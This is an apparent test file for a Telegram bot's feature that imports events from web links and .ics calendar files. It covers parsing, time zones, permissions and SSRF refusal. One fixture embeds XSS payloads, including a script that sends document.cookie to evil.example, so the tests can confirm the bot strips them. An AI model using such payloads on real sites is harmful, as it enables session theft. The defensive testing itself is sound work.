/**
 * /newevent from a link or an .ics file, through the real bot against the fake Bot API, reading
 * event pages from a local HTTP server. The server is 127.0.0.1, reached under public-looking names
 * (qom.example, events.example) through the import's resolver, with private addresses disallowed
 * as in production: only that one port on 127.0.0.1 is let through, so a redirect to another local
 * address is refused exactly as a redirect into a real private network would be.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { ALICE, MALLORY, REZA, startHarness, type Harness } from '../support/harness';
import type { FakeMessage, FakeUser } from '../support/fake-telegram/server';
import { buttons, makeOrganizer } from '../support/events';
import { modelsOf } from '../support/models';
import { until } from '../support/until';
import { createI18n, type Translate } from '../../src/i18n/i18n';
import { isPublicAddress } from '../../src/import/address';
import { NOW, RALLY, eventbritePage, feed, ics, meetupPage, tecEventPage } from '../support/import-fixtures';

/** The smallest JPEG header the bot checks for, and some bytes after it. */
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF-test-picture')]);

/** JSON-LD as serializers print it: "</" escaped, so a "</script>" inside a string cannot end the block. */
const ld = (data: unknown) =>
  `<!doctype html><html><head><meta charset="utf-8"><script type="application/ld+json">${JSON.stringify(data).replace(/<\//g, '<\\/')}</script></head><body></body></html>`;

/** An Event without a start date: the bot fills the rest and asks only for the start. */
const noStartPage = ld({
  '@context': 'https://schema.org',
  '@type': 'Event',
  name: 'Quran study circle',
  location: { '@type': 'Place', name: 'Hall 2', address: { '@type': 'PostalAddress', streetAddress: '5 College Rd', addressLocality: 'Qom' } },
  organizer: { '@type': 'Organization', name: 'Students Union', url: 'https://union.example/' },
  keywords: 'Study, Gardening',
});

/** Markup and a script in the title and description. */
const scriptPage = ld({
  '@context': 'https://schema.org',
  '@type': 'Event',
  name: 'Fish & chips <3 <script>alert("t")</script>night',
  startDate: '2026-12-10T19:00:00+03:30',
  endDate: '2026-12-10T21:00:00+03:30',
  description: '<p>Bring <b>friends</b> &amp; "appetite" <3</p><script>document.location="https://evil.example/?"+document.cookie</script><img src=x onerror=alert(1)>',
  location: { '@type': 'Place', name: '<i>Café</i> Nour' },
});

interface Site {
  port: number;
  close(): Promise<void>;
}

async function serve(routes: Record<string, (req: http.IncomingMessage, res: http.ServerResponse) => void>): Promise<Site> {
  const server = http.createServer((req, res) => {
    const route = routes[(req.url ?? '/').split('?')[0]!];
    if (!route) {
      res.writeHead(404);
      res.end('not found');
      return;
    }
    route(req, res);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    close: () => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve()))),
  };
}

const html = (body: string) => (_req: http.IncomingMessage, res: http.ServerResponse) => {
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
  res.end(body);
};

describe('/newevent from a link or an .ics file', () => {
  let h: Harness;
  let site: Site;
  let internal: Site;
  let en: Translate;
  let fa: Translate;
  let base: string;

  beforeAll(async () => {
    internal = await serve({ '/secret': html('internal only') });
    const routes: Record<string, (req: http.IncomingMessage, res: http.ServerResponse) => void> = {};
    site = await serve(routes);
    base = `http://qom.example:${site.port}`;
    Object.assign(routes, {
      // The rally, its picture served by the same site.
      '/event/rally/': html(tecEventPage.replace('https://qomstudents.example.org/wp-content/uploads/rally.jpg', `${base}/rally.jpg`)),
      '/rally.jpg': (_req: http.IncomingMessage, res: http.ServerResponse) => {
        res.writeHead(200, { 'content-type': 'image/jpeg' });
        res.end(JPEG);
      },
      '/eventbrite': html(eventbritePage),
      '/meetup': html(meetupPage),
      '/no-start': html(noStartPage),
      '/script': html(scriptPage),
      '/feed.ics': (_req: http.IncomingMessage, res: http.ServerResponse) => {
        res.writeHead(200, { 'content-type': 'text/calendar; charset=utf-8' });
        res.end(feed);
      },
      // Answers after a while, so messages sent meanwhile meet the import still reading.
      '/slow': (_req: http.IncomingMessage, res: http.ServerResponse) => {
        const t = setTimeout(() => html(eventbritePage)(_req, res), 1500);
        res.on('close', () => clearTimeout(t));
      },
      '/to-local': (_req: http.IncomingMessage, res: http.ServerResponse) => {
        res.writeHead(302, { location: `http://127.0.0.1:${internal.port}/secret` });
        res.end();
      },
    });
    h = await startHarness({
      now: () => NOW,
      importNetwork: {
        resolve: async (host) => {
          if (host.endsWith('.example')) return [{ address: '127.0.0.1', family: 4 }];
          throw new Error('no such host');
        },
        destinationAllowed: (address, port) => (address === '127.0.0.1' && port === site.port) || isPublicAddress(address),
      },
    });
    const i18n = await createI18n();
    en = i18n.forLocale('en');
    fa = i18n.forLocale('fa');
    await makeOrganizer(h.db.dal, ALICE);
    await makeOrganizer(h.db.dal, REZA);
    await h.db.dal.categories.add('study', { en: 'Study', fa: 'مطالعه' });
    await h.db.dal.categories.add('rally', { en: 'Rally', fa: 'گردهمایی' });
  });
  afterAll(async () => {
    await h.stop();
    await site.close();
    await internal.close();
  });
  afterEach(async () => {
    // Each test starts with no dialogue and no events.
    await h.fake.say(ALICE, '/cancel');
    await h.fake.say(REZA, '/cancel');
    await modelsOf(h.db.dal).events.deleteMany({});
  });

  /** Sends `text` (or pushes an update) and waits until a bot message in that chat satisfies `done`; returns the bot's new messages. */
  async function act(user: FakeUser, send: () => number, done: (m: FakeMessage) => boolean): Promise<FakeMessage[]> {
    const before = h.fake.botMessagesIn(user.id).length;
    await h.fake.processed(send());
    await until(() => h.fake.botMessagesIn(user.id).slice(before).some(done), 10_000, 'the import to finish', 25);
    // The dialogue's state is stored when the import's work is done (just after its last message).
    await until(() => h.app.background.size === 0, 10_000, 'the import to be stored', 10);
    return h.fake.botMessagesIn(user.id).slice(before);
  }
  const say = (user: FakeUser, text: string, done: (m: FakeMessage) => boolean) => act(user, () => h.fake.sendText(user, text), done);
  const isPreviewCard = (m: FakeMessage) => buttons(m).some((b) => b.text === en('newevent.button.publish') || b.text === fa('newevent.button.publish'));

  it('a Persian page from The Events Calendar: everything filled, the picture as the photo, published in Tehran time', async () => {
    const msgs = await say(REZA, `/newevent ${base}/event/rally/`, isPreviewCard);
    expect(msgs[0]?.text).toBe(fa('import.chat.readingPage'));
    // The summary goes with the page's picture, uploaded (not linked), and names what was filled.
    const summary = msgs[1]!;
    expect(summary.photo).toBeDefined();
    expect(h.fake.file(summary.photo!)?.bytes.equals(JPEG)).toBe(true);
    for (const field of ['title', 'when', 'end', 'venue', 'address', 'description', 'organizer', 'links', 'photo']) {
      expect(summary.caption).toContain(fa(`newevent.field.${field}`));
    }
    expect(summary.caption).not.toContain(fa('import.chat.stillNeeded', { fields: '' }).split(':')[0]);
    // The card is the photo with the preview's buttons (the rest of a long card follows it as text).
    const card = msgs.find(isPreviewCard)!;
    expect(card.photo).toBe(summary.photo);
    expect(card.caption).toContain(RALLY.title);
    expect(card.caption).toContain(RALLY.venue);
    // The description's script (escaped HTML in JSON-LD) is gone; its text stays.
    expect(msgs.map((m) => `${m.caption ?? ''}${m.text ?? ''}`).join('')).toContain('همه دعوتند.');
    expect(msgs.map((m) => `${m.caption ?? ''}${m.text ?? ''}`).join('')).not.toContain('alert');
    // Nothing is stored before Publish.
    expect(await modelsOf(h.db.dal).events.countDocuments()).toBe(0);

    const published = await h.fake.press(REZA, card, fa('newevent.button.publish'));
    expect(published[0]?.text).toBe(fa('newevent.published', { n: 1 }));
    const [e] = await modelsOf(h.db.dal).events.find().lean();
    expect(e).toMatchObject({
      title: RALLY.title,
      status: 'published',
      timezone: 'Asia/Tehran',
      allDay: false,
      createdBy: REZA.id,
      description: 'همه دعوتند. ساعت ۹ صبح',
      venue: { name: RALLY.venue, address: RALLY.address, city: RALLY.city, country: 'Iran' },
      organizer: { name: 'انجمن دانشجویان', website: RALLY.website, links: { telegram: RALLY.telegram, eitaa: RALLY.eitaa } },
      photoFileId: summary.photo,
    });
    // 9:00–11:30 in Qom is 05:30–08:00 UTC.
    expect(e!.startAt.toISOString()).toBe('2026-12-18T05:30:00.000Z');
    expect(e!.endAt.toISOString()).toBe('2026-12-18T08:00:00.000Z');
    // The members' card is the photo with the RSVP buttons.
    const memberCard = published[1]!;
    expect(memberCard.photo).toBe(summary.photo);
    expect(buttons(memberCard).some((b) => b.callback_data?.startsWith('rv:'))).toBe(true);
  });

  it('an Eventbrite page: instants kept exactly, shown in the organizer\'s zone; venue with address and the organizer\'s site', async () => {
    const msgs = await say(ALICE, `/newevent ${base}/eventbrite`, isPreviewCard);
    const card = msgs[msgs.length - 1]!;
    expect(card.text).toContain('Arabic calligraphy workshop');
    expect(card.text).toContain('Community Library');
    // The picture is on another host (img.evbuc.example resolves here, but to a port that is not allowed): no photo, and a note.
    expect(msgs.some((m) => m.text?.includes(en('import.note.pictureUnusable')))).toBe(true);
    await h.fake.press(ALICE, card, en('newevent.button.saveDraft'));
    const [e] = await modelsOf(h.db.dal).events.find().lean();
    expect(e).toMatchObject({ status: 'draft', timezone: 'Asia/Tehran', venue: { name: 'Community Library', address: '12 Main St', city: 'Springfield', country: 'US', lat: 40.7, lon: -74.3 } });
    expect(e!.organizer?.website).toBe('https://www.eventbrite.example/o/springfield-arts-1234');
    expect(e!.startAt.toISOString()).toBe('2027-01-20T23:30:00.000Z');
    expect(e!.endAt.toISOString()).toBe('2027-01-21T01:30:00.000Z');
    expect(e!.photoFileId).toBeUndefined();
  });

  it('a Meetup page (@graph): Urdu title, the online link, and the note that the source cancelled it', async () => {
    const msgs = await say(ALICE, `/newevent ${base}/meetup`, isPreviewCard);
    const summary = msgs.find((m) => m.text?.includes('📥'))!;
    expect(summary.text).toContain(en('import.note.cancelled'));
    expect(summary.text).toContain(en('newevent.field.online'));
    const card = msgs[msgs.length - 1]!;
    expect(card.text).toContain('اردو شاعری کی شام');
    expect(card.raw).toContain('https://meet.example/urdu-poetry');
  });

  it('a page without a start: asks for the start only, then shows the preview; unknown categories are named and left out', async () => {
    let msgs = await say(ALICE, `/newevent ${base}/no-start`, (m) => m.raw.includes(en('newevent.ask.when', { zone: 'Iran Time (Asia/Tehran)' })));
    const summary = msgs[1]!;
    expect(summary.text).toContain(en('import.chat.stillNeeded', { fields: en('newevent.field.when') }));
    expect(summary.text).toContain(en('import.note.categoriesLeftOut', { names: 'Gardening' }));
    expect(msgs).toHaveLength(3); // reading…, the summary, the one question
    msgs = await h.fake.say(ALICE, '2026-12-12 17:00');
    // Straight to the preview: no question about the venue, organizer or anything else the page gave.
    expect(msgs[0]?.text).toContain('12 Dec 2026');
    const card = msgs[msgs.length - 1]!;
    expect(isPreviewCard(card)).toBe(true);
    expect(card.text).toContain('Quran study circle');
    expect(card.text).toContain('Hall 2');
    expect(card.text).toContain('#study');
    await h.fake.press(ALICE, card, en('newevent.button.publish'));
    const [e] = await modelsOf(h.db.dal).events.find().lean();
    expect(e).toMatchObject({ title: 'Quran study circle', categories: ['study'], venue: { name: 'Hall 2', address: '5 College Rd', city: 'Qom' }, timezone: 'Asia/Tehran' });
    expect(e!.startAt.toISOString()).toBe('2026-12-12T13:30:00.000Z');
    expect(e!.endAt.toISOString()).toBe('2026-12-12T15:30:00.000Z');
  });

  it('a link pasted as the answer to the first question is imported', async () => {
    const [intro] = await h.fake.say(ALICE, '/newevent');
    expect(intro?.raw).toContain(en('newevent.ask.title'));
    const msgs = await say(ALICE, `${base}/script`, isPreviewCard);
    expect(msgs[0]?.text).toBe(en('import.chat.readingPage'));
    const card = msgs[msgs.length - 1]!;
    // Markup and scripts from the page are text at most, never HTML; the script's code is gone.
    expect(card.text).toContain('Fish & chips <3');
    expect(card.raw).toContain('Fish &amp; chips &lt;3');
    expect(card.text).toContain('Bring friends & "appetite" <3');
    expect(card.raw).not.toMatch(/<script|<img|<i>Café|onerror|document\.cookie|alert/);
    expect(card.text).toContain('Café Nour');
  });

  it('a page that redirects to 127.0.0.1 is refused in the organizer\'s language, and nothing is read from there', async () => {
    const msgs = await say(REZA, `/newevent ${base}/to-local`, (m) => m.text?.includes(fa('import.fetch.blocked_address')) ?? false);
    expect(msgs.map((m) => m.text)).toEqual([fa('import.chat.readingPage'), `⚠️ ${fa('import.fetch.blocked_address')}\n${fa('import.chat.tryAgain')}`]);
    // The dialogue is over: a message now is not taken as an answer.
    const [after] = await h.fake.say(REZA, 'hello');
    expect(after?.text).not.toContain(fa('import.chat.stillReading'));
  });

  it('bad links are answered at once with the reason, in the organizer\'s language', async () => {
    let [m] = await h.fake.say(REZA, '/newevent ftp://files.example/event');
    expect(m?.text).toBe(`⚠️ ${fa('import.fetch.unsupported_scheme')}\n${fa('import.chat.tryAgain')}`);
    [m] = await h.fake.say(REZA, '/newevent https://user:pw@qom.example/event');
    expect(m?.text).toBe(`⚠️ ${fa('import.fetch.bad_url')}\n${fa('import.chat.tryAgain')}`);
    const msgs = await say(ALICE, `/newevent ${base}/missing`, (x) => x.text?.includes(en('import.fetch.http_error', { status: 404 })) ?? false);
    expect(msgs).toHaveLength(2);
  });

  it('only organizers: /newevent <link> from a member is refused before anything is read', async () => {
    const [m] = await h.fake.say(MALLORY, `/newevent ${base}/eventbrite`);
    expect(m?.text).toBe(en('events.denied.not_organizer'));
    expect(h.fake.botMessagesIn(MALLORY.id)).toHaveLength(1);
  });

  it('an .ics file sent as a document: a series with exceptions becomes its first date, with notes', async () => {
    const send = () => h.fake.sendDocument(ALICE, { file_name: 'study-circle.ics', mime_type: 'text/calendar', content: Buffer.from(feed) });
    const msgs = await act(ALICE, send, isPreviewCard);
    expect(msgs[0]?.text).toBe(en('import.chat.readingFile'));
    const summary = msgs[1]!;
    expect(summary.text).toContain(en('import.note.seriesFirstOnly'));
    expect(summary.text).toContain(en('import.note.several', { n: 5 }));
    const card = msgs[msgs.length - 1]!;
    expect(card.text).toContain('Study circle');
    expect(card.text).toContain('Room 4');
    await h.fake.press(ALICE, card, en('newevent.button.publish'));
    const events = await modelsOf(h.db.dal).events.find().lean();
    expect(events).toHaveLength(1);
    // Thursday 4 Feb 2027, 19:00–20:30 in New York (the file's zone).
    expect(events[0]).toMatchObject({ timezone: 'America/New_York', description: 'Weekly reading.\nBring the book.' });
    expect(events[0]!.startAt.toISOString()).toBe('2027-02-05T00:00:00.000Z');
    expect(events[0]!.endAt.toISOString()).toBe('2027-02-05T01:30:00.000Z');
    expect(events[0]!.series).toBeUndefined();
  });

  it('an .ics file with a plain weekly series across a DST change becomes a series; /newevent as the caption works too', async () => {
    const series = ics([
      'BEGIN:VEVENT', 'UID:weekly@test', 'DTSTAMP:20261101T000000Z',
      'DTSTART;TZID=America/New_York:20270304T190000', 'DTEND;TZID=America/New_York:20270304T200000',
      'RRULE:FREQ=WEEKLY;BYDAY=TH;COUNT=4', 'SUMMARY:حلقة التلاوة', 'LOCATION:المسجد الجامع، شارع الملك فهد',
      'END:VEVENT',
    ]);
    const send = () => h.fake.sendDocument(ALICE, { file_name: 'weekly.ics', content: Buffer.from(series) }, '/newevent');
    const msgs = await act(ALICE, send, isPreviewCard);
    // The preview names the series and its four dates.
    expect(msgs.some((m) => m.text?.includes('🔁') && m.text.includes('4'))).toBe(true);
    const card = msgs[msgs.length - 1]!;
    expect(card.text).toContain('حلقة التلاوة');
    await h.fake.press(ALICE, card, en('newevent.button.publish'));
    const events = await modelsOf(h.db.dal).events.find().sort({ startAt: 1 }).lean();
    // 19:00 New York every Thursday: 00:00 UTC before 14 March, 23:00 UTC after.
    expect(events.map((e) => e.startAt.toISOString())).toEqual([
      '2027-03-05T00:00:00.000Z', '2027-03-12T00:00:00.000Z', '2027-03-18T23:00:00.000Z', '2027-03-25T23:00:00.000Z',
    ]);
    expect(new Set(events.map((e) => e.series?.seriesId.toHexString())).size).toBe(1);
    expect(events[0]).toMatchObject({ timezone: 'America/New_York', venue: { name: 'المسجد الجامع', address: 'شارع الملك فهد' } });
  });

  it('a calendar file from a member who is not an organizer is not imported (the usual pointer instead)', async () => {
    const before = h.fake.botMessagesIn(MALLORY.id).length;
    const fileCalls = h.fake.callsTo('getFile').length;
    await h.fake.processed(h.fake.sendDocument(MALLORY, { file_name: 'x.ics', content: Buffer.from(feed) }));
    const msgs = h.fake.botMessagesIn(MALLORY.id).slice(before);
    expect(msgs).toHaveLength(1);
    expect(msgs[0]?.text).not.toBe(en('import.chat.readingFile'));
    expect(h.fake.callsTo('getFile')).toHaveLength(fileCalls);
    // With /newevent as the caption, the member is told why.
    const [refused] = await act(MALLORY, () => h.fake.sendDocument(MALLORY, { file_name: 'x.ics', content: Buffer.from(feed) }, '/newevent'), () => true);
    expect(refused?.text).toBe(en('events.denied.not_organizer'));
  });

  it('a file that is not a calendar, and one over the size limit, get their reasons', async () => {
    let msgs = await act(ALICE, () => h.fake.sendDocument(ALICE, { file_name: 'notes.ics', content: Buffer.from('hello, not a calendar') }), (m) =>
      m.text?.includes(en('import.problem.unreadable')) ?? false,
    );
    expect(msgs).toHaveLength(2);
    const big = Buffer.alloc(6 * 1024 * 1024, 0x41);
    msgs = await act(ALICE, () => h.fake.sendDocument(ALICE, { file_name: 'big.ics', content: big }), (m) => m.text?.includes(en('import.fetch.too_large', { max: 5 })) ?? false);
    expect(msgs).toHaveLength(2);
  });

  it('reading a slow page holds up nobody: another member is answered meanwhile', async () => {
    await h.fake.processed(h.fake.sendText(ALICE, `/newevent ${base}/slow`));
    expect(h.app.background.size).toBe(1);
    const [help] = await h.fake.say(REZA, '/help');
    expect(help?.text).toBeTruthy();
    // Answered while the page was still being read.
    expect(h.app.background.size).toBe(1);
    await until(() => h.app.background.size === 0, 10_000, 'the slow import', 25);
    expect(h.fake.botMessagesIn(ALICE.id).some(isPreviewCard)).toBe(true);
  });

  it('while a page is read, other messages get "still reading", and /cancel drops the result', async () => {
    const before = h.fake.botMessagesIn(ALICE.id).length;
    // Three updates in one go: the link, a message, /cancel. The page is read after the first is handled.
    await h.fake.processed(h.fake.sendText(ALICE, `/newevent ${base}/slow`));
    const [still] = await h.fake.say(ALICE, 'hello?');
    const [cancelled] = await h.fake.say(ALICE, '/cancel');
    expect([still?.text, cancelled?.text]).toEqual([en('import.chat.stillReading'), en('newevent.cancelled')]);
    // Whatever the read brings, no summary and no preview follow.
    await new Promise((r) => setTimeout(r, 2500));
    const msgs = h.fake.botMessagesIn(ALICE.id).slice(before);
    expect(msgs.map((m) => m.text)).toEqual([en('import.chat.readingPage'), en('import.chat.stillReading'), en('newevent.cancelled')]);
  });
});
